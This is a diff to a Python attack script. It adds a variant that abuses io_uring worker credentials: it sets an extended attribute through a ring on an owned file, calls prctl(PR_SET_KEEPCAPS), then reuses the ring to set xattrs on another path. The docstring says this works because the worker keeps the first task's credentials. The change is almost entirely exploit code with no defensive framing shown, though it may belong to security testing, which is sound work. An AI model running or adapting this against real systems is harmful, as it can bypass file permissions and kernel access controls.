@@ -3,10 +3,10 @@ import ctypes
 import os
 import struct
 
-from attack import syscall
+from attack import LIBC, call, syscall
 from uring import SETXATTR, Ring, entry, text
 
-SETXATTRAT = 463
+SETXATTRAT, PR_SET_KEEPCAPS = 463, 8
 NAME, VALUE = "user.attack", b"changed"
 # struct posix_acl_xattr: owner, one named user, group, mask, others.
 LIST = struct.pack("<I", 2) + b"".join(
@@ -27,9 +27,21 @@ def access_list(path):
 
 
 def by_ring(path):
-    (name, one), (value, two), (place, three) = text(NAME), text(VALUE), text(path)
-    Ring().do(entry(SETXATTR, 0, name, len(VALUE), offset=value, more=place))
+    by_rings_worker(Ring(), path)
+
+
+def by_rings_worker(ring, path, value=VALUE):
+    (name, one), (value, two), (place, three) = text(NAME), text(value), text(path)
+    ring.do(entry(SETXATTR, 0, name, len(VALUE), offset=value, more=place))
     del one, two, three
+
+
+def by_worker(own, path):
+    """The ring's worker keeps the credentials of its first task; those of the second are others."""
+    ring = Ring()
+    by_rings_worker(ring, own, b"earlier")
+    call(LIBC.prctl, PR_SET_KEEPCAPS, 1, 0, 0, 0)
+    by_rings_worker(ring, path)
 
 
 def from_folder(path):
